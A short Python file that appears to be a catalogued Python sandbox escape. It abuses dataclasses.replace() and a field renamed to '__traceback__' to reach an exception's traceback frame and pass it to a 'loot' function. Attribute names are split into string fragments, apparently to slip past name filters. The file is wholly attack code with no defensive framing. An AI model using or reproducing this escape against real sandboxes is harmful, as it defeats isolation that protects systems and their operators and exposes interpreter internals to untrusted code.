# aim: let dataclasses read an attribute by the name of a field
# mechanism: replace() reads every field with the real getattr
# language: builtins
# reason: the library reads names that the program chose
# jail: process
# plain: loot

import dataclasses


@dataclasses.dataclass
class Trouble(Exception):
    x: object = None
    found: object = None

    def __new__(cls, *args, **kwargs):
        for value in kwargs.values():
            if value is not None:
                loot(getattr(value, "tb_fr" + "ame"))
        return super().__new__(cls)


try:
    raise Trouble()
except Trouble as error:
    dataclasses.fields(error)[0].name = "__trace" + "back__"
    try:
        dataclasses.replace(error)
    except TypeError:
        pass
